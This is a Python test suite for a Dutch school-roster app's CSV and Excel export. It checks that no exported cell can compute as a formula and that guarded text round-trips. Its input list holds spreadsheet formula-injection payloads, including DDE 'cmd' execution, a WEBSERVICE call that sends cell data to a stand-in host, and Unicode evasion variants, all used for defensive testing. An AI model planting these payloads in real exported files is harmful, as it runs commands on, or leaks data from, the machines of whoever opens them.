"""No cell of any output computes, text stays text, and what went out comes back in."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, date, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from app.names import tidy
from app.roster.sending.sheets import Marking, Sheet, to_csv, to_xlsx
from app.roster.source.findings import Findings
from app.roster.source.guarding import guard, unguard
from app.roster.source.layout import Layout
from app.roster.source.tables import open_table

MARKING = Marking(
    "Vertrouwelijk · Bo & Co",
    "Over dit bestand",
    ("Eén regel", "=1+1"),
    datetime(2026, 11, 22, tzinfo=UTC),
)

FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "=HYPERLINK(\"http://x.example\",\"klik\")",
    "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@cmd|' /C calc'!A0",
    "=DDE(\"cmd\";\"/C calc\";\"x\")", "=WEBSERVICE(\"http://x.example/\"&A1)", "=IMPORTXML(A1;B1)",
    "=1", "=", "+", "-", "@", "==1", "=-1", "+-1", "@@1",
    " =1+1", "  +1", "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", "\x0b=1", "\x0c=1", "\x00=1", "\x1f=1",
    "\xa0=1", "\u200b=1", "\u200e=1", "\u2028=1", "\u202e=1", "\u2060=1", "\ufeff=1", "\u3000=1", "\xad=1",
    "\"=1+1", "\"\"=1", "'=1+1", "''=1", "\u201c=1", "\u2018=1", "`=1", " '=1", "' =1", "\" =1",
    "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)", "\ufe661", "\ufe621", "\u22121", "\u207a1", " \uff1d1",
    "x;=1+1", "x,=1+1", "x\t=1+1", "x|=1+1", "x\n=1+1", "x; =1", "x;\"=1", "x,'=1", "\";=1;\"", "\",=1,\"",
    "a;b,=c|@d", "x\r=1", "x\n\n+1", "1;-1", "a,+31612345678", "=1;=2;=3", "\ud83d\ude00".encode("utf-16", "surrogatepass").decode("utf-16") + ";=1",
]  # fmt: skip


def computes(text: str) -> bool:
    """Whether a spreadsheet may take a text for a formula."""
    blank = ' \t\r\n\x0b\x0c\x00\x1f\xa0\xad\u200b\u200e\u2028\u202e\u2060\ufeff\u3000"\u201c\u2018`'
    rest = text.lstrip(blank)
    return (
        rest[:1] in tuple("=+-@\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b\u2212\u207a")
        if rest
        else False
    )


def every_reading(content: bytes) -> list[str]:
    """The cells in all ways in which a spreadsheet may part them."""
    text = content.decode("utf-8-sig")
    found = [cell for line in text.replace("\r", "\n").split("\n") for cell in [line]]
    for separator in ";,\t|":
        found += [
            cell
            for line in csv.reader(io.StringIO(text, newline=""), delimiter=separator)
            for cell in line
        ]
        found += [
            cell
            for line in text.replace("\r", "\n").split("\n")
            for cell in line.split(separator)
        ]
    return found


def sheet_of(*texts: str) -> Sheet:
    return Sheet("Namen", ("Naam", "Groep"), tuple((text, "5") for text in texts))


def test_there_are_enough_variants() -> None:
    assert len(set(FORMULAS)) >= 60
    assert all(
        computes(text) or any(mark in text for mark in ";,\t|\r\n'") for text in FORMULAS
    )


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_of_a_csv_file_computes(formula: str) -> None:
    assert not [cell for cell in every_reading(to_csv(sheet_of(formula))) if computes(cell)]
    headed = Sheet("x", (formula, "b"), ())
    assert not [cell for cell in every_reading(to_csv(headed)) if computes(cell)]


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_of_a_workbook_computes(formula: str) -> None:
    content = to_xlsx([sheet_of(formula)], MARKING)
    book = load_workbook(io.BytesIO(content))
    cells = [
        cell
        for page in book
        for row in page.iter_rows()
        for cell in row
        if cell.value is not None
    ]
    assert {cell.data_type for cell in cells} == {"s"}
    assert all(cell.quotePrefix for cell in cells)
    with zipfile.ZipFile(io.BytesIO(content)) as packed:
        assert all(b"<f" not in packed.read(f"xl/worksheets/sheet{n}.xml") for n in (1, 2))


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_guarded_text_comes_back(formula: str) -> None:
    assert unguard(guard(formula)) == formula
    assert unguard(guard(guard(formula))) == guard(formula)


@given(st.text(alphabet="=+-@'\"; ,\t\n|a\uff1d\u200b", max_size=12))
def test_every_guarded_text_comes_back_and_does_not_compute(text: str) -> None:
    assert unguard(guard(text)) == text
    assert not computes(guard(text))


@pytest.mark.parametrize(
    "text",
    ["'t Hart", "Bos-van Dam", "a@b.example", "Kade 12-3", "1-2", "", "Al; Bo", "06-12345678"],
)
def test_what_cannot_compute_stays_as_it_is(text: str) -> None:
    assert guard(text) == text


def test_a_number_from_abroad_stays_readable() -> None:
    content = to_csv(sheet_of("+31 6 12345678"))
    assert "'+31 6 12345678" in content.decode("utf-8-sig")
    assert open_table(content, "x").first(1)[0].cells[0] == "+31 6 12345678"


def test_a_csv_file_is_written_the_dutch_way() -> None:
    sheet = Sheet(
        "x", ("Naam", "Geboren", "Aantal"), (('Zoë "Z"', date(2015, 5, 3), 7), ("", None, 0))
    )
    assert (
        to_csv(sheet)
        == b"\xef\xbb\xbf"
        + '"Naam";"Geboren";"Aantal"\r\n"Zoë ""Z""";"03-05-2015";"7"\r\n"";"";"0"\r\n'.encode()
    )


def test_a_workbook_has_typed_cells_and_says_what_it_is() -> None:
    sheet = Sheet(
        "Leerlingen: [1/2]",
        ("Nummer", "Geboren", "Aantal"),
        (("00123", date(2015, 5, 3), 7), ("1e5", date(1899, 1, 1), 0)),
    )
    book = load_workbook(io.BytesIO(to_xlsx([sheet, sheet], MARKING)))
    assert book.sheetnames == ["Leerlingen   1 2", "Leerlingen   1 2 (2)", "Over dit bestand"]
    page = book.worksheets[0]
    assert [[cell.value for cell in row] for row in page.iter_rows(min_row=2)] == [
        ["00123", datetime.combine(date(2015, 5, 3), datetime.min.time()), 7], ["1e5", "01-01-1899", 0],
    ]  # fmt: skip
    assert page["B2"].is_date
    assert page["A2"].number_format == "@"
    assert page.freeze_panes == "A2"
    assert page.oddHeader is not None
    assert page.oddHeader.center.text == "Vertrouwelijk · Bo && Co"
    assert book.properties.title == MARKING.text
    assert [row[0].value for row in book.worksheets[2].iter_rows()] == [
        MARKING.text,
        "Eén regel",
        "=1+1",
    ]


def test_the_same_table_gives_the_same_bytes() -> None:
    assert to_xlsx([sheet_of("a")], MARKING) == to_xlsx([sheet_of("a")], MARKING)


SHEET_FAULTS = {
    "#DIV/0!", "#GETTING_DATA", "#N/A", "#NAME?", "#NULL!", "#NUM!", "#REF!", "#VALUE!",
}  # fmt: skip
texts = st.text(max_size=15).map(tidy).filter(lambda text: text not in SHEET_FAULTS)


@given(st.lists(st.tuples(texts, texts), max_size=5))
def test_what_went_out_comes_back_in(rows: list[tuple[str, str]]) -> None:
    clean = [
        (f"k{at}", *row)
        for at, row in enumerate(rows)
        if all(cell.isprintable() for cell in row)
    ]
    sheet = Sheet("x", ("Kop", "A", "B"), (("eerste", "x", "y"), *clean))
    for content in (to_csv(sheet), to_xlsx([sheet], MARKING)):
        table = open_table(content, "x", Layout())
        read = [tuple(row.cells) for row in table.rows(Findings("x"))][1:]
        assert [tuple(tidy(str(cell)) for cell in row) for row in read] == clean
